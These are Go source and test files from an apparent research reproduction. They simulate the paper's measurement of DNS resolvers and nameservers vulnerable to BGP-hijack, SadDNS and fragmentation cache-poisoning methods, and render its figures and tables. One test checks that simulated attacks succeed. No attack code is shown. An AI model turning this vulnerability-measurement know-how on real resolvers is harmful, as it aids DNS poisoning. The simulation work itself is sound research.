		return stats.NewCDF(lens)
	})
	return stats.MergeCDFs(parts...)
}

// Figure3 builds the announced-prefix-length CDFs for open-resolver
// and ad-net resolver populations and the Alexa nameserver population
// (paper Figure 3) with default execution settings.
func Figure3(sampleCap int, seed int64) (string, map[string]*stats.CDF) {
	return Figure3Run(Config{SampleCap: sampleCap, Seed: seed})
}

// Figure3Run is Figure3 under an explicit execution Config.
func Figure3Run(cfg Config) (string, map[string]*stats.CDF) {
	specs := Table3Datasets()
	// The resolver curves use the datasets' Table 3 seed offsets (6, 7)
	// so they describe the same populations Table 3 scans; the
	// nameserver curve keeps its historical +100 offset and is an
	// independent draw from the Alexa spec, NOT the population of
	// Table 4's row 1 (offset +1).
	openCDF := prefixLenCDF(specs[7], cfg.cap(specs[7].PaperSize), cfg.forDataset(7))
	adnetCDF := prefixLenCDF(specs[6], cfg.cap(specs[6].PaperSize), cfg.forDataset(6))
	dspec := Table4Datasets()[1] // Alexa 1M nameservers
	nsCDF := nsPrefixLenCDF(dspec, cfg.cap(dspec.PaperSize), cfg.forDataset(100))

	curves := map[string]*stats.CDF{"open": openCDF, "adnet": adnetCDF, "alexa-ns": nsCDF}

	var sb strings.Builder
	sb.WriteString("== Figure 3: Announced prefixes (fraction per length) ==\n")
	xs := make([]float64, 0, 14)
	for b := 11; b <= 24; b++ {
		xs = append(xs, float64(b))
	}
	for _, c := range []struct {
		label string
		cdf   *stats.CDF
	}{
		{"Resolvers: Open resolver", openCDF},
		{"Resolvers: Adnet", adnetCDF},
		{"Nameservers: Alexa", nsCDF},
	} {
		prev := 0.0
		fmt.Fprintf(&sb, "%s (n=%d)\n", c.label, c.cdf.Len())
		for _, x := range xs {
			p := c.cdf.At(x)
			share := p - prev
			prev = p
			bar := strings.Repeat("#", int(share*100+0.5))
			fmt.Fprintf(&sb, "  /%-2.0f |%-50s| %5.1f%%\n", x, bar, share*100)
		}
	}
	return sb.String(), curves
}

// Figure4 renders resolver EDNS buffer sizes against nameserver
// minimum fragment sizes (paper Figure 4) with default execution
// settings.
func Figure4(sampleCap int, seed int64) (string, *stats.CDF, *stats.CDF) {
	return Figure4Run(Config{SampleCap: sampleCap, Seed: seed})
}

// Figure4Run is Figure4 under an explicit execution Config.
func Figure4Run(cfg Config) (string, *stats.CDF, *stats.CDF) {
	// Resolver EDNS sizes: measured server-side during the frag scan of
	// the open-resolver dataset.
	spec := Table3Datasets()[7]
	rres := ScanResolverDataset(spec, cfg.cap(spec.PaperSize), cfg)
	edns := stats.NewCDF(rres.EDNSSizes)

	// Nameserver min fragment sizes: PMTUD sweep over the eduroam
	// dataset (the most fragmentation-prone one).
	dspec := Table4Datasets()[0]
	dres := ScanDomainDataset(dspec, cfg.cap(dspec.PaperSize), cfg.forDataset(1))
	frag := stats.NewCDF(dres.MinFragSizes)

	xs := []float64{68, 292, 548, 1500, 2048, 3072, 4096}
	var sb strings.Builder
	sb.WriteString("== Figure 4: resolver EDNS UDP size vs minimum fragment size ==\n")
	sb.WriteString(edns.RenderASCII("EDNS size of resolvers", xs, "%6.0f"))
	sb.WriteString(frag.RenderASCII("minimum fragment size of nameservers", xs, "%6.0f"))
	return sb.String(), edns, frag
}

// Figure5 builds the Venn partitions of vulnerable resolvers and
// domains across the three methods (paper Figure 5) with default
// execution settings.
func Figure5(sampleCap int, seed int64) (string, stats.Venn3, stats.Venn3) {
	return Figure5Run(Config{SampleCap: sampleCap, Seed: seed})
}

// Figure5Run is Figure5 under an explicit execution Config: the
// per-dataset Venn partitions are computed independently and merged.
func Figure5Run(cfg Config) (string, stats.Venn3, stats.Venn3) {
	labels := [3]string{"HijackDNS", "SadDNS", "FragDNS"}
	rv := stats.Venn3{Labels: labels}
	_, rres := Table3Run(cfg)
	for _, r := range rres {
		rv = rv.Merge(stats.NewVenn3(labels, r.Membership))
	}
	dv := stats.Venn3{Labels: labels}
	_, dres := Table4Run(cfg.forDataset(50))
	for _, d := range dres {
		dv = dv.Merge(stats.NewVenn3(labels, d.Membership))
	}
	var sb strings.Builder
	sb.WriteString("== Figure 5a: vulnerable resolvers (sampled) ==\n")
	sb.WriteString(rv.String())
	sb.WriteString("\n== Figure 5b: vulnerable domains (sampled) ==\n")
	sb.WriteString(dv.String())
	sb.WriteString("\n")
	return sb.String(), rv, dv
}
