package measure

import (
	"context"

	"crosslayer/internal/engine"
	"crosslayer/internal/report"
	"crosslayer/internal/stats"
)

// prefixLenCDF synthesizes (without scanning) the resolver population
// of one dataset shard-by-shard and returns the CDF of announced
// covering-prefix lengths, merged in shard order.
func prefixLenCDF(ctx context.Context, spec ResolverDatasetSpec, n int, cfg Config) (*stats.CDF, error) {
	parts, err := engine.RunCtx(ctx, cfg.job(spec.Name, n), func(sh engine.Shard) *stats.CDF {
		fleet := NewResolverFleetShard(spec, sh)
		lens := make([]float64, 0, len(fleet.Resolvers))
		for _, sr := range fleet.Resolvers {
			lens = append(lens, float64(sr.AnnouncedPrefix.Bits()))
		}
		return stats.NewCDF(lens)
	})
	if err != nil {
		return nil, err
	}
	return stats.MergeCDFs(parts...), nil
}

// nsPrefixLenCDF is prefixLenCDF for a domain (nameserver) dataset.
func nsPrefixLenCDF(ctx context.Context, spec DomainDatasetSpec, n int, cfg Config) (*stats.CDF, error) {
	parts, err := engine.RunCtx(ctx, cfg.job(spec.Name, n), func(sh engine.Shard) *stats.CDF {
		fleet := NewDomainFleetShard(spec, sh)
		lens := make([]float64, 0, len(fleet.Domains))
		for _, d := range fleet.Domains {
			lens = append(lens, float64(d.AnnouncedPrefix.Bits()))
		}
		return stats.NewCDF(lens)
	})
	if err != nil {
		return nil, err
	}
	return stats.MergeCDFs(parts...), nil
}

// barColumns is the fixed column set of every LayoutBars figure
// section: curve label, curve sample count, x tick, plotted value.
func barColumns() []report.Column {
	return []report.Column{
		report.Col("curve", report.KindString),
		report.Col("n", report.KindInt),
		report.Col("x", report.KindFloat),
		report.Col("value", report.KindFloat),
	}
}

// Figure3 builds the announced-prefix-length CDFs for open-resolver
// and ad-net resolver populations and the Alexa nameserver population
// (paper Figure 3) with default execution settings, returning the
// rendered text for convenience.
func Figure3(sampleCap int, seed int64) (string, map[string]*stats.CDF) {
	rep, curves, _ := Figure3Run(context.Background(), Config{SampleCap: sampleCap, Seed: seed})
	return rep.String(), curves
}

// Figure3Run builds the Figure 3 Report under an explicit execution
// Config: one bars section, one group per population curve, the
// per-prefix-length share as the plotted value.
func Figure3Run(ctx context.Context, cfg Config) (*report.Report, map[string]*stats.CDF, error) {
	specs := Table3Datasets()
	// The resolver curves use the datasets' Table 3 seed offsets (6, 7)
	// so they describe the same populations Table 3 scans; the
	// nameserver curve keeps its historical +100 offset and is an
	// independent draw from the Alexa spec, NOT the population of
	// Table 4's row 1 (offset +1).
	openCDF, err := prefixLenCDF(ctx, specs[7], cfg.cap(specs[7].PaperSize), cfg.forDataset(7))
	if err != nil {
		return nil, nil, err
	}
	adnetCDF, err := prefixLenCDF(ctx, specs[6], cfg.cap(specs[6].PaperSize), cfg.forDataset(6))
	if err != nil {
		return nil, nil, err
	}
	dspec := Table4Datasets()[1] // Alexa 1M nameservers
	nsCDF, err := nsPrefixLenCDF(ctx, dspec, cfg.cap(dspec.PaperSize), cfg.forDataset(100))
	if err != nil {
		return nil, nil, err
	}

	curves := map[string]*stats.CDF{"open": openCDF, "adnet": adnetCDF, "alexa-ns": nsCDF}

	rep := report.New("fig3", "Figure 3: announced covering-prefix lengths")
	sec := rep.AddSection(&report.Section{
		Title:   "Figure 3: Announced prefixes (fraction per length)",
		Layout:  report.LayoutBars,
		Columns: barColumns(),
		Bars:    &report.BarSpec{Scale: 100, Width: 50, Prefix: "/", XFormat: "%-2.0f"},
	})
	for _, c := range []struct {
		label string
		cdf   *stats.CDF
	}{
		{"Resolvers: Open resolver", openCDF},
		{"Resolvers: Adnet", adnetCDF},
		{"Nameservers: Alexa", nsCDF},
	} {
		prev := 0.0
		for b := 11; b <= 24; b++ {
			p := c.cdf.At(float64(b))
			sec.Add(c.label, c.cdf.Len(), float64(b), p-prev)
			prev = p
		}
	}
	return rep, curves, nil
}

// Figure4 renders resolver EDNS buffer sizes against nameserver
// minimum fragment sizes (paper Figure 4) with default execution
// settings.
func Figure4(sampleCap int, seed int64) (string, *stats.CDF, *stats.CDF) {
	rep, edns, frag, _ := Figure4Run(context.Background(), Config{SampleCap: sampleCap, Seed: seed})
	return rep.String(), edns, frag
}

// Figure4Run builds the Figure 4 Report under an explicit execution
// Config: one bars section, the cumulative fraction at each size
// breakpoint per curve.
func Figure4Run(ctx context.Context, cfg Config) (*report.Report, *stats.CDF, *stats.CDF, error) {
	// Resolver EDNS sizes: measured server-side during the frag scan of
	// the open-resolver dataset.
	spec := Table3Datasets()[7]
	rres, err := ScanResolverDataset(ctx, spec, cfg.cap(spec.PaperSize), cfg)
	if err != nil {
		return nil, nil, nil, err
	}
	edns := stats.NewCDF(rres.EDNSSizes)

	// Nameserver min fragment sizes: PMTUD sweep over the eduroam
	// dataset (the most fragmentation-prone one).
	dspec := Table4Datasets()[0]
	dres, err := ScanDomainDataset(ctx, dspec, cfg.cap(dspec.PaperSize), cfg.forDataset(1))
	if err != nil {
		return nil, nil, nil, err
	}
	frag := stats.NewCDF(dres.MinFragSizes)

	rep := report.New("fig4", "Figure 4: EDNS buffer sizes vs minimum fragment sizes")
	sec := rep.AddSection(&report.Section{
		Title:   "Figure 4: resolver EDNS UDP size vs minimum fragment size",
		Layout:  report.LayoutBars,
		Columns: barColumns(),
		Bars:    &report.BarSpec{Scale: 40, Width: 40, XFormat: "%6.0f"},
	})
	xs := []float64{68, 292, 548, 1500, 2048, 3072, 4096}
	for _, c := range []struct {
		label string
		cdf   *stats.CDF
	}{
		{"EDNS size of resolvers", edns},
		{"minimum fragment size of nameservers", frag},
	} {
		for _, x := range xs {
			sec.Add(c.label, c.cdf.Len(), x, c.cdf.At(x))
		}
	}
	return rep, edns, frag, nil
}

// Figure5 builds the Venn partitions of vulnerable resolvers and
// domains across the three methods (paper Figure 5) with default
// execution settings.
func Figure5(sampleCap int, seed int64) (string, stats.Venn3, stats.Venn3) {
	rep, rv, dv, _ := Figure5Run(context.Background(), Config{SampleCap: sampleCap, Seed: seed})
	return rep.String(), rv, dv
}

// Figure5Run builds the Figure 5 Report under an explicit execution
// Config: the per-dataset Venn partitions are computed independently,
// merged, and laid out as one kv section with a group per panel.
func Figure5Run(ctx context.Context, cfg Config) (*report.Report, stats.Venn3, stats.Venn3, error) {
	labels := [3]string{"HijackDNS", "SadDNS", "FragDNS"}
	rv := stats.Venn3{Labels: labels}
	_, rres, err := Table3Run(ctx, cfg)
	if err != nil {
		return nil, stats.Venn3{}, stats.Venn3{}, err
	}
	for _, r := range rres {
		rv = rv.Merge(stats.NewVenn3(labels, r.Membership))
	}
	dv := stats.Venn3{Labels: labels}
	_, dres, err := Table4Run(ctx, cfg.forDataset(50))
	if err != nil {
		return nil, stats.Venn3{}, stats.Venn3{}, err
	}
	for _, d := range dres {
		dv = dv.Merge(stats.NewVenn3(labels, d.Membership))
	}

	rep := report.New("fig5", "Figure 5: vulnerability overlap across methods")
	sec := rep.AddSection(&report.Section{
		Layout: report.LayoutKV,
		Columns: []report.Column{
			report.Col("panel", report.KindString),
			report.Col("region", report.KindString),
			report.Col("count", report.KindInt),
		},
	})
	addVenn(sec, "Figure 5a: vulnerable resolvers (sampled)", rv)
	addVenn(sec, "Figure 5b: vulnerable domains (sampled)", dv)
	return rep, rv, dv, nil
}

// addVenn lays a Venn3 partition out as kv rows, in the region order
// stats.Venn3.String historically printed.
func addVenn(sec *report.Section, panel string, v stats.Venn3) {
	sec.Add(panel, v.Labels[0]+" only", v.OnlyA)
	sec.Add(panel, v.Labels[1]+" only", v.OnlyB)
	sec.Add(panel, v.Labels[2]+" only", v.OnlyC)
	sec.Add(panel, v.Labels[0]+"∩"+v.Labels[1], v.AB)
	sec.Add(panel, v.Labels[0]+"∩"+v.Labels[2], v.AC)
	sec.Add(panel, v.Labels[1]+"∩"+v.Labels[2], v.BC)
	sec.Add(panel, "all three", v.ABC)
	sec.Add(panel, "union", v.Total())
}
