package measure

import (
	"strings"
	"testing"
)

// TestScannersRecoverGroundTruth validates the heart of the §5
// methodology: the packet-level probes must re-measure exactly the
// properties the population was synthesized with, resolver by
// resolver.
func TestScannersRecoverGroundTruth(t *testing.T) {
	spec := Table3Datasets()[7] // open resolvers: 74/12/31
	f := NewResolverFleet(spec, 150, 1)
	r := ScanResolverFleet(f)
	if r.Scanned != 150 {
		t.Fatalf("scanned %d", r.Scanned)
	}
	for i, sr := range f.Resolvers {
		bits := r.Membership[i]
		if sr.TruthSubPrefix != (bits&1 != 0) {
			t.Errorf("resolver %d: sub-prefix truth %v measured %v", i, sr.TruthSubPrefix, bits&1 != 0)
		}
		if sr.TruthSadDNS != (bits&2 != 0) {
			t.Errorf("resolver %d: saddns truth %v measured %v", i, sr.TruthSadDNS, bits&2 != 0)
		}
		if sr.TruthFrag != (bits&4 != 0) {
			t.Errorf("resolver %d: frag truth %v measured %v", i, sr.TruthFrag, bits&4 != 0)
		}
	}
}

func TestDomainScannersRecoverGroundTruth(t *testing.T) {
	spec := Table4Datasets()[0] // eduroam: highest rates, best signal
	f := NewDomainFleet(spec, 120, 2)
	r := ScanDomainFleet(f)
	fragGlobalTruth := 0
	for i, d := range f.Domains {
		bits := r.Membership[i]
		if d.TruthSubPrefix != (bits&1 != 0) {
			t.Errorf("domain %d: sub truth %v measured %v", i, d.TruthSubPrefix, bits&1 != 0)
		}
		if d.TruthRateLimit != (bits&2 != 0) {
			t.Errorf("domain %d: rrl truth %v measured %v", i, d.TruthRateLimit, bits&2 != 0)
		}
		if d.TruthFragAny != (bits&4 != 0) {
			t.Errorf("domain %d: frag truth %v measured %v", i, d.TruthFragAny, bits&4 != 0)
		}
		if d.TruthFragGlobal {
			fragGlobalTruth++
		}
	}
	if r.FragGlobal.Hits != fragGlobalTruth {
		t.Errorf("frag-global measured %d, truth %d", r.FragGlobal.Hits, fragGlobalTruth)
	}
	if r.DNSSEC.Hits == 0 {
		t.Error("DNSSEC scan found nothing in a 10-percent-signed population")
	}
}

// TestTable3RatesMatchPaperShape checks the measured rates stay within
// sampling noise of the paper's reported marginals.
func TestTable3RatesMatchPaperShape(t *testing.T) {
	tbl, results := Table3(120, 3)
	if len(results) != 9 {
		t.Fatalf("%d datasets", len(results))
	}
	out := tbl.String()
	if !strings.Contains(out, "Open resolvers") {
		t.Fatalf("table missing rows:\n%s", out)
	}
	for _, r := range results {
		if r.Scanned >= 100 {
			within := func(meas int, rate float64, label string) {
				got := float64(meas) / float64(r.Scanned)
				if got < rate-0.15 || got > rate+0.15 {
					t.Errorf("%s/%s: measured %.2f, paper %.2f", r.Spec.Name, label, got, rate)
				}
			}
			within(r.SubPrefix.Hits, r.Spec.SubPrefixRate, "sub-prefix")
			within(r.SadDNS.Hits, r.Spec.SadDNSRate, "saddns")
			within(r.Frag.Hits, r.Spec.FragRate, "frag")
		}
	}
}

func TestTable4RatesMatchPaperShape(t *testing.T) {
	_, results := Table4(100, 4)
	if len(results) != 10 {
		t.Fatalf("%d datasets", len(results))
	}
	for _, r := range results {
		if r.Scanned >= 100 {
			got := float64(r.SubPrefix.Hits) / float64(r.Scanned)
			if got < r.Spec.SubPrefixRate-0.15 || got > r.Spec.SubPrefixRate+0.15 {
				t.Errorf("%s sub-prefix: measured %.2f, paper %.2f", r.Spec.Name, got, r.Spec.SubPrefixRate)
			}
		}
	}
}

func TestComparisonTable6Shape(t *testing.T) {
	cmp := RunComparison(5, 800)
	if !cmp.Hijack.Success || !cmp.SadDNS.Success || !cmp.FragGlobal.Success {
		t.Fatalf("attacks failed: %+v %+v %+v", cmp.Hijack, cmp.SadDNS, cmp.FragGlobal)
	}
	// Table 6 orderings: traffic Hijack << FragGlobal << SadDNS;
	// queries Hijack = 1, SadDNS >= 1.
	if cmp.Hijack.AttackerPackets > 5 {
		t.Errorf("hijack traffic %d, want ~2", cmp.Hijack.AttackerPackets)
	}
	if cmp.FragGlobal.AttackerPackets <= cmp.Hijack.AttackerPackets {
		t.Error("frag should cost more than hijack")
	}
	if cmp.SadDNS.AttackerPackets <= cmp.FragGlobal.AttackerPackets*10 {
		t.Errorf("saddns traffic %d should dwarf frag %d", cmp.SadDNS.AttackerPackets, cmp.FragGlobal.AttackerPackets)
	}
	// Same-prefix interception in the paper's band (~80%).
	if cmp.SamePrefixRate < 0.5 || cmp.SamePrefixRate > 0.95 {
		t.Errorf("same-prefix rate %.2f outside band", cmp.SamePrefixRate)
	}
	tbl := Table6(cmp, [3]float64{0.70, 0.11, 0.91}, [3]float64{0.53, 0.12, 0.04})
	if !strings.Contains(tbl.String(), "Total traffic") {
		t.Fatal("table 6 render broken")
	}
}

func TestTable5MatchesPaper(t *testing.T) {
	_, res := Table5(6)
	want := map[string]bool{
		"BIND 9.14.0": true, "Unbound 1.9.1": false,
		"PowerDNS Recursor 4.3.0": true, "systemd resolved 245": true,
		"dnsmasq-2.79": false,
	}
	for k, v := range want {
		if res[k] != v {
			t.Errorf("%s = %v, want %v", k, res[k], v)
		}
	}
}

func TestTable1RowsCoverPaperMatrix(t *testing.T) {
	rows := Table1Rows()
	if len(rows) != 20 {
		t.Fatalf("Table 1 has %d rows, want 20", len(rows))
	}
	categories := map[string]bool{}
	hijackAll := true
	for _, r := range rows {
		categories[r.Category] = true
		if !r.Hijack {
			hijackAll = false
		}
		if r.Impact == "" || r.DemoName == "" {
			t.Errorf("row %s/%s missing impact/demo", r.Category, r.Protocol)
		}
	}
	// Nine categories as in the paper.
	if len(categories) != 9 {
		t.Fatalf("%d categories, want 9", len(categories))
	}
	// HijackDNS applies to every application (Table 1's Hijack column
	// is all checkmarks).
	if !hijackAll {
		t.Fatal("HijackDNS column should be all-applicable")
	}
	if !strings.Contains(Table1().String(), "fraud. certificate") {
		t.Fatal("render broken")
	}
}

func TestFigure3Shapes(t *testing.T) {
	out, curves := Figure3(150, 7)
	if !strings.Contains(out, "Nameservers: Alexa") {
		t.Fatalf("figure 3 output:\n%s", out)
	}
	for label, c := range curves {
		if c.Len() == 0 {
			t.Errorf("curve %s empty", label)
		}
		// All prefixes in /11../24.
		if c.Quantile(0) < 11 || c.Quantile(1) > 24 {
			t.Errorf("curve %s range [%v,%v]", label, c.Quantile(0), c.Quantile(1))
		}
	}
}

func TestFigure4Shapes(t *testing.T) {
	_, edns, frag := Figure4(150, 8)
	// ~40% of resolvers at 512 bytes (Figure 4's left partition).
	at512 := edns.At(512)
	if at512 < 0.2 || at512 > 0.6 {
		t.Errorf("EDNS<=512 fraction %.2f outside band", at512)
	}
	// Most fragmenting nameservers reach 548 bytes.
	if frag.Len() > 10 {
		at548 := frag.At(560)
		if at548 < 0.6 {
			t.Errorf("frag<=560 fraction %.2f; paper says 83%% reach 548", at548)
		}
	}
}

func TestFigure5VennConsistency(t *testing.T) {
	out, rv, dv := Figure5(80, 9)
	if !strings.Contains(out, "Figure 5a") {
		t.Fatal("render broken")
	}
	// HijackDNS must dominate both unions (paper: "the number of
	// resolvers and domains vulnerable to HijackDNS is by far the
	// highest").
	if rv.InA() <= rv.InB() || rv.InA() <= rv.InC() {
		t.Errorf("resolver venn: hijack %d saddns %d frag %d", rv.InA(), rv.InB(), rv.InC())
	}
	if dv.InA() <= dv.InB() || dv.InA() <= dv.InC() {
		t.Errorf("domain venn: hijack %d saddns %d frag %d", dv.InA(), dv.InB(), dv.InC())
	}
}

func TestForwarderStudyBands(t *testing.T) {
	reach, shared := ForwarderStudy(5000, 10)
	if reach < 0.75 || reach > 0.83 {
		t.Errorf("forwarder reachability %.2f, paper 0.79", reach)
	}
	if shared < 0.6 || shared > 0.78 {
		t.Errorf("cache sharing %.2f, paper 0.69", shared)
	}
	if !VerifyForwarderChain(12, 3) {
		t.Fatal("depth-3 forwarder chain did not resolve and cache end-to-end")
	}
	if !VerifyForwarderPath(11) {
		t.Error("dynamic forwarder path verification failed")
	}
}
