package measure

import (
	"context"
	"reflect"
	"testing"
)

// TestTable3ByteIdenticalAcrossParallelism is the engine's determinism
// contract end-to-end: the same (SampleCap, Seed, ShardSize) must
// render byte-identical Table 3 output — and identical raw scan
// results — for any worker count.
func TestTable3ByteIdenticalAcrossParallelism(t *testing.T) {
	base := Config{SampleCap: 90, Seed: 11, ShardSize: 16, Parallelism: 1}
	refTbl, refRes, err := Table3Run(context.Background(), base)
	if err != nil {
		t.Fatal(err)
	}
	ref := refTbl.String()
	if ref == "" {
		t.Fatal("empty reference table")
	}
	for _, p := range []int{2, 8} {
		cfg := base
		cfg.Parallelism = p
		tbl, res, err := Table3Run(context.Background(), cfg)
		if err != nil {
			t.Fatal(err)
		}
		if got := tbl.String(); got != ref {
			t.Fatalf("parallelism %d changed Table 3 bytes:\n--- p=1\n%s\n--- p=%d\n%s", p, ref, p, got)
		}
		if !reflect.DeepEqual(res, refRes) {
			t.Fatalf("parallelism %d changed raw scan results", p)
		}
	}
}

func TestFigure4ByteIdenticalAcrossParallelism(t *testing.T) {
	base := Config{SampleCap: 90, Seed: 12, ShardSize: 16, Parallelism: 1}
	refRep, _, _, err := Figure4Run(context.Background(), base)
	if err != nil {
		t.Fatal(err)
	}
	ref := refRep.String()
	if ref == "" {
		t.Fatal("empty reference figure")
	}
	for _, p := range []int{2, 8} {
		cfg := base
		cfg.Parallelism = p
		rep, _, _, err := Figure4Run(context.Background(), cfg)
		if err != nil {
			t.Fatal(err)
		}
		if got := rep.String(); got != ref {
			t.Fatalf("parallelism %d changed Figure 4 bytes:\n--- p=1\n%s\n--- p=%d\n%s", p, ref, p, got)
		}
	}
}

// TestShardedScanMatchesSingleShard pins the decomposition itself: a
// sharded dataset scan must agree with scanning each shard's fleet
// serially by hand, so parallel fan-out is pure plumbing.
func TestShardedScanMatchesSingleShard(t *testing.T) {
	spec := Table3Datasets()[7]
	cfg := Config{Seed: 13, ShardSize: 25, Parallelism: 4}
	got, err := ScanResolverDataset(context.Background(), spec, 70, cfg)
	if err != nil {
		t.Fatal(err)
	}
	if got.Scanned != 70 {
		t.Fatalf("scanned %d, want 70", got.Scanned)
	}
	want := ResolverScanResult{Spec: spec}
	for _, sh := range cfg.job(spec.Name, 70).Shards() {
		part := ScanResolverFleet(NewResolverFleetShard(spec, sh))
		want.Merge(part)
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("engine scan disagrees with manual shard merge:\n%+v\n%+v", got, want)
	}
}

func TestConfigCap(t *testing.T) {
	if got := (Config{SampleCap: 100}).cap(500); got != 100 {
		t.Fatalf("cap(500) with SampleCap 100 = %d", got)
	}
	if got := (Config{SampleCap: 100}).cap(50); got != 50 {
		t.Fatalf("cap(50) with SampleCap 100 = %d", got)
	}
	// SampleCap <= 0 means the full population, not an empty scan.
	if got := (Config{}).cap(500); got != 500 {
		t.Fatalf("cap(500) with zero SampleCap = %d", got)
	}
	if got := (Config{SampleCap: -1}).cap(500); got != 500 {
		t.Fatalf("cap(500) with SampleCap -1 = %d", got)
	}
}

// TestJobClampsOversizedShards guards the fleet address space: one
// network can host at most 2^16 population items, so a larger
// requested shard size must be clamped, not passed through to panic
// on a duplicate address.
func TestJobClampsOversizedShards(t *testing.T) {
	j := Config{ShardSize: 1 << 20}.job("x", 200000)
	if j.ShardSize != maxShardSize {
		t.Fatalf("shard size %d, want clamp to %d", j.ShardSize, maxShardSize)
	}
	shards := j.Shards()
	if len(shards) != 4 { // ceil(200000 / 65536)
		t.Fatalf("%d shards, want 4", len(shards))
	}
	for _, sh := range shards {
		if sh.Count > maxShardSize {
			t.Fatalf("shard %d covers %d items", sh.Index, sh.Count)
		}
	}
}

func TestDomainShardMergeCounts(t *testing.T) {
	spec := Table4Datasets()[0]
	cfg := Config{Seed: 14, ShardSize: 20, Parallelism: 3}
	r, err := ScanDomainDataset(context.Background(), spec, 55, cfg)
	if err != nil {
		t.Fatal(err)
	}
	if r.Scanned != 55 || r.SubPrefix.Total != 55 || r.DNSSEC.Total != 55 {
		t.Fatalf("denominators wrong: %+v", r)
	}
	if len(r.Membership) != 55 {
		t.Fatalf("membership %d, want 55", len(r.Membership))
	}
	if len(r.MinFragSizes) != r.FragAny.Hits {
		t.Fatalf("%d frag sizes for %d fragmenting servers", len(r.MinFragSizes), r.FragAny.Hits)
	}
}
