// Package measure reproduces the paper's §5 Internet measurements on
// synthetic populations. Population attribute distributions (announced
// prefix lengths, ICMP rate-limit architecture, fragment acceptance,
// EDNS buffer sizes, nameserver RRL/PMTUD/IPID behaviour, DNSSEC
// deployment) are calibrated to the marginals the paper reports; the
// scanners then RE-MEASURE every property through the same
// packet-level probe logic the paper used, so each table is an actual
// measurement, not an echo of the sampled parameters.
package measure

import (
	"fmt"
	"math/rand"
	"net/netip"

	"crosslayer/internal/bgp"
	"crosslayer/internal/dnssrv"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/engine"
	"crosslayer/internal/netsim"
	"crosslayer/internal/resolver"
	"crosslayer/internal/sim"
)

// ResolverDatasetSpec calibrates one Table 3 row.
type ResolverDatasetSpec struct {
	Name      string
	Protocols string
	PaperSize int
	// Ground-truth rates from the paper (what the synthetic
	// population is drawn from; the scan re-measures them).
	SubPrefixRate float64 // announced covering prefix shorter than /24
	SadDNSRate    float64 // global (unpatched) ICMP limit
	FragRate      float64 // accepts fragmented responses w/ big EDNS
}

// Table3Datasets returns the paper's nine resolver datasets.
func Table3Datasets() []ResolverDatasetSpec {
	return []ResolverDatasetSpec{
		{"Local university", "Radius", 1, 1.00, 0.00, 1.00},
		{"Popular services", "PW-recovery", 29, 0.93, 0.16, 0.90},
		{"Popular CAs", "DV", 5, 0.75, 0.00, 0.00},
		{"Popular CDNs", "CDN", 4, 1.00, 0.00, 0.25},
		{"Alexa 1M SRV", "XMPP", 476, 0.73, 0.01, 0.57},
		{"Alexa 1M MX", "SMTP/SPF/DMARC/DKIM", 61036, 0.79, 0.09, 0.56},
		{"Ad-net study", "HTTP/DANE/OCSP", 5847, 0.70, 0.11, 0.91},
		{"Open resolvers", "All", 1583045, 0.74, 0.12, 0.31},
		{"Cache test", "NTP", 448521, 0.79, 0.09, 0.32},
	}
}

// DomainDatasetSpec calibrates one Table 4 row.
type DomainDatasetSpec struct {
	Name      string
	Protocols string
	PaperSize int
	// Rates per the paper's Table 4.
	SubPrefixRate  float64
	SadDNSRate     float64 // nameserver rate-limits (mutable)
	FragAnyRate    float64 // fragments large (ANY) responses at all
	FragGlobalRate float64 // … with a global IPID counter
	DNSSECRate     float64
}

// Table4Datasets returns the paper's ten domain datasets.
func Table4Datasets() []DomainDatasetSpec {
	return []DomainDatasetSpec{
		{"Eduroam list", "Radius", 1152, 0.96, 0.11, 0.44, 0.18, 0.10},
		{"Alexa 1M", "HTTP/DANE/DV", 877071, 0.53, 0.12, 0.04, 0.01, 0.02},
		{"Alexa 1M MX", "SMTP/SPF/DKIM/DMARC", 63726, 0.44, 0.06, 0.07, 0.01, 0.03},
		{"Alexa 1M SRV", "XMPP", 2025, 0.44, 0.04, 0.29, 0.05, 0.07},
		{"RIR whois", "PW-recovery", 58742, 0.59, 0.09, 0.14, 0.04, 0.04},
		{"Registrar whois", "PW-recovery", 4628, 0.51, 0.10, 0.23, 0.05, 0.06},
		{"Well-known NTP", "NTP", 9, 0.25, 0.00, 0.25, 0.25, 0.25},
		{"Well-known crypto", "Cryptocurrency", 32, 0.28, 0.17, 0.21, 0.03, 0.21},
		{"Well-known RPKI", "RPKI", 8, 0.14, 0.00, 0.00, 0.00, 0.67},
		{"Cert. scan", "IKE/OpenVPN", 307, 0.51, 0.11, 0.05, 0.01, 0.07},
	}
}

// samplePrefixLen draws an announced prefix length such that
// P(len < 24) == subRate, with the sub-/24 mass spread over /11../23
// roughly like Figure 3 (most announcements cluster at /16../22).
func samplePrefixLen(rng *rand.Rand, subRate float64) int {
	if rng.Float64() >= subRate {
		return 24
	}
	// Weighted lengths 11..23, heavier in the middle.
	weights := []struct {
		bits int
		w    float64
	}{
		{11, 1}, {12, 2}, {13, 3}, {14, 5}, {15, 6}, {16, 10},
		{17, 7}, {18, 8}, {19, 9}, {20, 10}, {21, 9}, {22, 12}, {23, 6},
	}
	total := 0.0
	for _, w := range weights {
		total += w.w
	}
	x := rng.Float64() * total
	for _, w := range weights {
		x -= w.w
		if x <= 0 {
			return w.bits
		}
	}
	return 22
}

// sampleEDNS draws a resolver EDNS buffer size per Figure 4's
// partition: ~40% at 512 (or no EDNS), ~10% between 1232 and 2048,
// ~50% at 4096+.
func sampleEDNS(rng *rand.Rand) uint16 {
	switch x := rng.Float64(); {
	case x < 0.40:
		return 512
	case x < 0.50:
		opts := []uint16{1232, 1400, 2048}
		return opts[rng.Intn(len(opts))]
	default:
		opts := []uint16{4000, 4096, 8192}
		return opts[rng.Intn(len(opts))]
	}
}

// sampleMinFragSize draws the minimum fragment size a nameserver will
// fragment down to (Figure 4: 83.2% reach 548, 7.05% even 292, the
// rest only ~1280).
func sampleMinFragSize(rng *rand.Rand) int {
	switch x := rng.Float64(); {
	case x < 0.0705:
		return 292
	case x < 0.832+0.0705:
		return 548
	default:
		return 1280
	}
}

// SimResolver is one synthesized resolver under test.
type SimResolver struct {
	Index    int
	Host     *netsim.Host
	Resolver *resolver.Resolver
	// AnnouncedPrefix is the covering BGP announcement for the
	// resolver's address (the paper's RouteViews/RIS view).
	AnnouncedPrefix netip.Prefix
	// Ground truth for scanner validation.
	TruthSubPrefix bool
	TruthSadDNS    bool
	TruthFrag      bool
}

// ResolverFleet is a synthesized population shard plus its probing
// infrastructure. Each fleet owns its clock and network outright, so
// fleets for different shards simulate concurrently without sharing
// any state.
type ResolverFleet struct {
